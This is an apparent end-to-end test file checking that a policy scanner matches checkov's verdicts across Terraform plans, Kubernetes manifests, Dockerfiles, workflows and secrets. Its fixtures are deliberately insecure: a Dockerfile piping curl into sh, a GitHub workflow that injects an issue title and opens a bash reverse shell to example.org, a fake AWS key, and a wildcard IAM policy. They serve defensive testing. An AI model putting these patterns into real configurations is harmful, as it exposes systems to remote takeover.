"""The scanner says what checkov's command line says: the same checks, the same subjects, the same verdicts."""

from __future__ import annotations

import json
import shutil
import subprocess
from textwrap import dedent
from typing import TYPE_CHECKING

import pytest
import yaml

from policies.checkov.run import run
from policies.checkov.verdicts import Framework, Request
from tests.e2e.policies.checkov import plans
from tests.e2e.policies.checkov.cluster import MANIFESTS
from tests.e2e.policies.checkov.conftest import CommandLine, Warm, verdicts, verdicts_by_line
from toolchain.events import ignore

if TYPE_CHECKING:
    from pathlib import Path
    from typing import Any

pytestmark = [pytest.mark.e2e, pytest.mark.xdist_group("checkov"), pytest.mark.usefixtures("cold")]

#: It looks like a key, and is none; in pieces, as this file is judged too.
KEY = "AKIA" + "Q4J7" + "ZKXW" + "3NB2" + "VLTD"

DOCKERFILE = """\
FROM python:latest
# checkov:skip=CKV_DOCKER_2:it is a job
ADD . /src
RUN apt-get update
RUN sudo apt-get install --yes --force-yes curl && curl -k https://example.org | sh
ENV PIP_TRUSTED_HOST=example.org
EXPOSE 22
USER root
"""

WORKFLOW = """\
name: trial
on:
  workflow_dispatch:
    inputs:
      what:
        description: what
        required: true
jobs:
  one:
    runs-on: ubuntu-latest
    env:
      ACTIONS_ALLOW_UNSECURE_COMMANDS: true
    steps:
      - uses: actions/checkout@v4
      - name: run it
        run: |
          curl https://example.org/${{ github.event.issue.title }} | bash -i >& /dev/tcp/example.org/1 0>&1
"""


def test_a_plan(command_line: CommandLine, warm: Warm, tmp_path: Path) -> None:
    """Of a plan with over fifty types in it every verdict is the command line's, graph checks among them."""
    file = tmp_path / "plan.json"
    file.write_text(json.dumps(plans.plan()), "utf-8")

    results = warm.of(Framework.TERRAFORM_PLAN)
    told = command_line.judge("terraform_plan", [file])

    assert () == results.unjudged
    assert told == verdicts(results)
    assert {("passed", True), ("passed", False), ("failed", True), ("failed", False)} == {
        (verdict, check.startswith("CKV2")) for check, _subject, verdict in told
    }
    assert len({check for check, _subject, _verdict in told}) >= 150


def test_modules_data_and_providers(command_line: CommandLine, tmp_path: Path) -> None:
    """Modules, data sources and providers of a plan are judged as the command line does."""
    plan = plans.plan()
    root, configured = plan["planned_values"]["root_module"], plan["configuration"]
    inside = {
        "address": "module.a.aws_sqs_queue.x",
        "mode": "managed",
        "type": "aws_sqs_queue",
        "name": "x",
        "values": {},
    }
    root["child_modules"] = [{"address": "module.a", "resources": [inside]}]
    document = {"statement": [{"actions": ["*"], "resources": ["*"], "effect": "Allow"}]}
    data = {"type": "aws_iam_policy_document", "name": "all", "mode": "data", "values": document}
    root["resources"].append({"address": "data.aws_iam_policy_document.all", **data})
    key = {"access_key": {"constant_value": "AKIA" + "I" * 16}}
    configured["provider_config"]["aws"]["expressions"] |= key
    file = tmp_path / "plan.json"
    file.write_text(json.dumps(plan), "utf-8")

    told = command_line.judge("terraform_plan", [file])

    assert told == verdicts(run(Request(plan=plan), ignore))
    assert {"module.a.aws_sqs_queue.x", "data.aws_iam_policy_document.all", "aws.default"} <= {row[1] for row in told}


def test_manifests_in_memory(command_line: CommandLine, warm: Warm, tmp_path: Path) -> None:
    """Manifests of a preview are judged as the command line judges them in one file."""
    file = tmp_path / "all.yaml"
    file.write_text(yaml.safe_dump_all(MANIFESTS.values()), "utf-8")
    owners = {_id(manifest): urn for urn, manifest in MANIFESTS.items()}
    owners["Pod.shop.firm.app-firm"] = "deployment"  # a pod of a template, as the command line calls it

    results = warm.of(Framework.KUBERNETES)
    told = command_line.judge("kubernetes", [file])

    assert () == results.unjudged
    assert {(check, owners[subject], verdict) for check, subject, verdict in told} == verdicts(results)
    assert {"passed", "failed", "skipped"} == {row[2] for row in told}


def test_rendered_manifests(command_line: CommandLine, tmp_path: Path) -> None:
    """Files of a folder are judged as the command line judges them."""
    folder = tmp_path / "rendered"
    folder.mkdir()
    files = [folder / f"{name}.yaml" for name in MANIFESTS]
    for file, manifest in zip(files, MANIFESTS.values(), strict=True):
        file.write_text(yaml.safe_dump(manifest), "utf-8")

    results = run(Request(rendered=folder), ignore)

    assert () == results.unjudged
    assert command_line.judge("kubernetes", files) == verdicts(results)


@pytest.mark.parametrize(
    ("framework", "name", "text"),
    [
        (Framework.DOCKERFILE, "Dockerfile", DOCKERFILE),
        (Framework.GITHUB_ACTIONS, ".github/workflows/trial.yml", WORKFLOW),
        (
            Framework.SECRETS,
            "settings.py",
            f'KEY = "{KEY}"\n',
        ),
    ],
    ids=["Dockerfile", "workflow", "secret"],
)
def test_files(framework: Framework, name: str, text: str, command_line: CommandLine, tmp_path: Path) -> None:
    """Files of a repository are judged as the command line judges them."""
    folder = repository(tmp_path / "repository", {name: text, "notes.txt": "nothing\n"})

    results = run(Request(folder=folder, frameworks=frozenset({framework})), ignore)
    told = command_line.judge(framework, [folder / name])

    assert () == results.unjudged
    assert "failed" in {row[2] for row in told}
    assert told == verdicts_by_line(results, folder)


def repository(folder: Path, files: dict[str, str]) -> Path:
    """A git repository that tracks files."""
    for name, text in files.items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(dedent(text), "utf-8")
    git = shutil.which("git") or "git"
    for arguments in (["init", "--quiet"], ["add", "--all"]):
        subprocess.run([git, *arguments], cwd=folder, check=True, timeout=60)
    return folder


def _id(manifest: dict[str, Any]) -> str:
    metadata = manifest["metadata"]
    return f"{manifest['kind']}.{metadata.get('namespace', 'default')}.{metadata['name']}"
